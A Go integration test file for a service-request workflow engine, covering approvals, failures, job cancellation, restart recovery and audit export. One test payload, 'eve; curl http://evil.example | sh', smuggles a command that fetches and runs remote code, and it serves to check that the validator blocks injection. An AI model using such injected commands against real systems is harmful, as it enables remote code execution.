package api_test

import (
	"fmt"
	"strings"
	"testing"

	fiber "github.com/gofiber/fiber/v2"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Kensan196948G/ServiceGrid-sub004/internal/audit"
	"github.com/Kensan196948G/ServiceGrid-sub004/internal/db/models"
	"github.com/Kensan196948G/ServiceGrid-sub004/internal/workflow"
	"github.com/Kensan196948G/ServiceGrid-sub004/test"
)

// This file drives the whole engine through the public API client.

func newRequest(id string, kind models.JobKind, payload models.Payload) workflow.Request {
	return workflow.Request{
		ID:          id,
		RequesterID: "u-100",
		Kind:        kind,
		Priority:    models.PriorityNormal,
		Payload:     payload,
	}
}

func eventTypes(entries []models.AuditEntry) map[models.AuditEventType]int {
	out := make(map[models.AuditEventType]int)
	for _, e := range entries {
		out[e.EventType]++
	}
	return out
}

func TestAutoApprovedRequestCompletes(t *testing.T) {
	suite := test.NewSuite(t)
	defer suite.Cleanup()

	resp, err := suite.APIClient.SubmitRequest(suite.Context(),
		newRequest("REQ-AUTO", models.JobKindAccountCreation, models.Payload{"user": "alice"}))
	require.NoError(t, err)
	require.NotNil(t, resp.Approval, "low-risk request should be approved inline")
	assert.Equal(t, "REQ-AUTO", resp.RequestID)

	st := suite.WaitForState("REQ-AUTO", workflow.StatusCompleted)
	require.NotEmpty(t, st.JobID)
	require.NotNil(t, st.SLADeadline)

	job, err := suite.APIClient.GetJob(suite.Context(), st.JobID)
	require.NoError(t, err)
	assert.Equal(t, models.JobStateCompleted, job.State)
	require.NotNil(t, job.Result)
	assert.Equal(t, fiber.StatusOK, job.Result.ExitCode)
	assert.Equal(t, "T-1", job.Result.Output["ticket"])

	calls := suite.Target.Calls()
	require.Len(t, calls, 1)
	assert.Equal(t, string(models.JobKindAccountCreation), calls[0].Adapter)
	assert.Equal(t, "alice", calls[0].Payload["user"])

	entries, err := suite.APIClient.GetAudit(suite.Context(), models.AuditFilter{SubjectID: st.JobID})
	require.NoError(t, err)
	seen := eventTypes(entries)
	assert.Equal(t, 1, seen[models.AuditSecurityDecision])
	assert.Equal(t, 2, seen[models.AuditExternalCall], "start and finish of the adapter call")
	assert.GreaterOrEqual(t, seen[models.AuditJobTransition], 2)
}

func TestParkedRequestApprovalAndRejection(t *testing.T) {
	suite := test.NewSuite(t)
	defer suite.Cleanup()

	for _, id := range []string{"REQ-GRANT", "REQ-DENY"} {
		resp, err := suite.APIClient.SubmitRequest(suite.Context(),
			newRequest(id, models.JobKindGroupAccessGrant, models.Payload{"group": "finance", "user": "bob"}))
		require.NoError(t, err)
		assert.Nil(t, resp.Approval)
		assert.Equal(t, id, resp.RequestID)
	}

	awaiting, err := suite.APIClient.GetAwaitingRequests(suite.Context(), 10)
	require.NoError(t, err)
	require.Len(t, awaiting, 2)
	assert.Empty(t, suite.Target.Calls(), "parked requests never reach the target")

	_, err = suite.APIClient.DecideRequest(suite.Context(), "REQ-GRANT",
		workflow.ApproverDecision{ApproverID: "mgr-1", Approve: true})
	require.NoError(t, err)
	_, err = suite.APIClient.DecideRequest(suite.Context(), "REQ-DENY",
		workflow.ApproverDecision{ApproverID: "mgr-1", Approve: false, Reason: "not in finance"})
	require.NoError(t, err)

	suite.WaitForState("REQ-GRANT", workflow.StatusCompleted)
	rejected := suite.WaitForState("REQ-DENY", workflow.StatusRejected)
	assert.Equal(t, "not in finance", rejected.Reason)

	_, err = suite.APIClient.DecideRequest(suite.Context(), "REQ-GRANT",
		workflow.ApproverDecision{ApproverID: "mgr-2", Approve: true})
	var fe *fiber.Error
	require.ErrorAs(t, err, &fe)
	assert.Equal(t, fiber.StatusConflict, fe.Code)

	awaiting, err = suite.APIClient.GetAwaitingRequests(suite.Context(), 10)
	require.NoError(t, err)
	assert.Empty(t, awaiting)
}

func TestFailuresAreReported(t *testing.T) {
	suite := test.NewSuite(t)
	defer suite.Cleanup()

	cases := map[string]models.Payload{
		"REQ-REJECTED": {"user": "carol", test.OutcomeField: test.OutcomeReject},
		"REQ-DOWN":     {"user": "dave", test.OutcomeField: test.OutcomeUnavailable},
		"REQ-BLOCKED":  {"user": "eve; curl http://evil.example | sh"},
	}
	for id, payload := range cases {
		_, err := suite.APIClient.SubmitRequest(suite.Context(), newRequest(id, models.JobKindAccountCreation, payload))
		require.NoError(t, err)
	}

	for id := range cases {
		st := suite.WaitForState(id, workflow.StatusFailed)
		assert.NotEmpty(t, st.Reason, id)
	}

	// the validator stops the blocked payload before any adapter runs
	for _, call := range suite.Target.Calls() {
		assert.NotContains(t, call.Payload["user"], "curl")
	}
	assert.Len(t, suite.Target.Calls(), 2)

	failed := models.JobStateFailed
	jobs, err := suite.APIClient.GetJobs(suite.Context(), &models.ListOptions{State: &failed})
	require.NoError(t, err)
	assert.Len(t, jobs, 3)
}

func TestCancelRunningJob(t *testing.T) {
	suite := test.NewSuite(t)
	defer suite.Cleanup()

	_, err := suite.APIClient.SubmitRequest(suite.Context(),
		newRequest("REQ-HOLD", models.JobKindSoftwareInstall, models.Payload{"package": "7zip", test.OutcomeField: test.OutcomeHold}))
	require.NoError(t, err)

	var jobID string
	require.NoError(t, suite.Retry(func() error {
		st, err := suite.APIClient.GetRequestStatus(suite.Context(), "REQ-HOLD")
		if err != nil {
			return err
		}
		if st.JobState != models.JobStateRunning {
			return fmt.Errorf("job is %s", st.JobState)
		}
		jobID = st.JobID
		return nil
	}, 200, 0))

	queue, err := suite.APIClient.GetQueue(suite.Context())
	require.NoError(t, err)
	assert.Equal(t, 1, queue.Running)

	_, err = suite.APIClient.CancelJob(suite.Context(), jobID)
	require.NoError(t, err)

	st := suite.WaitForState("REQ-HOLD", workflow.StatusFailed)
	assert.Equal(t, models.JobStateCancelled, st.JobState)

	_, err = suite.APIClient.CancelJob(suite.Context(), jobID)
	var fe *fiber.Error
	require.ErrorAs(t, err, &fe)
	assert.Equal(t, fiber.StatusConflict, fe.Code)
}

func TestRestartRestoresQueuedJobs(t *testing.T) {
	suite := test.NewSuite(t, test.WithMaxConcurrentJobs(1))
	defer suite.Cleanup()

	_, err := suite.APIClient.SubmitRequest(suite.Context(),
		newRequest("REQ-FIRST", models.JobKindChannelProvision, models.Payload{"channel": "ops", test.OutcomeField: test.OutcomeHold}))
	require.NoError(t, err)
	require.NoError(t, suite.Retry(func() error {
		queue, err := suite.APIClient.GetQueue(suite.Context())
		if err != nil {
			return err
		}
		if queue.Running != 1 {
			return fmt.Errorf("%d running", queue.Running)
		}
		return nil
	}, 200, 0))

	_, err = suite.APIClient.SubmitRequest(suite.Context(),
		newRequest("REQ-SECOND", models.JobKindChannelProvision, models.Payload{"channel": "sales"}))
	require.NoError(t, err)
	queue, err := suite.APIClient.GetQueue(suite.Context())
	require.NoError(t, err)
	assert.Equal(t, 1, queue.Queued)

	suite.Restart()

	first := suite.WaitForState("REQ-FIRST", workflow.StatusFailed)
	assert.Equal(t, models.JobStateCancelled, first.JobState)
	suite.WaitForState("REQ-SECOND", workflow.StatusCompleted)

	verify, err := suite.APIClient.VerifyAudit(suite.Context())
	require.NoError(t, err)
	assert.True(t, verify.Intact, "ledger chain continues across the restart")
	assert.Positive(t, verify.Entries)
}

func TestAuditExport(t *testing.T) {
	suite := test.NewSuite(t)
	defer suite.Cleanup()

	_, err := suite.APIClient.SubmitRequest(suite.Context(),
		newRequest("REQ-EXPORT", models.JobKindMonitoringRegistration, models.Payload{"host": "web-01"}))
	require.NoError(t, err)
	suite.WaitForState("REQ-EXPORT", workflow.StatusCompleted)

	csv, err := suite.APIClient.ExportAudit(suite.Context(), audit.FormatCSV, models.AuditFilter{
		EventTypes: []models.AuditEventType{models.AuditExternalCall},
	})
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(csv)), "\n")
	require.Len(t, lines, 3, "header plus start and finish of one external call")
	assert.Contains(t, lines[1], string(models.AuditExternalCall))
	assert.Contains(t, lines[2], string(models.AuditExternalCall))

	jsonl, err := suite.APIClient.ExportAudit(suite.Context(), audit.FormatJSONL, models.AuditFilter{Limit: 3})
	require.NoError(t, err)
	assert.Len(t, strings.Split(strings.TrimSpace(string(jsonl)), "\n"), 3)
}
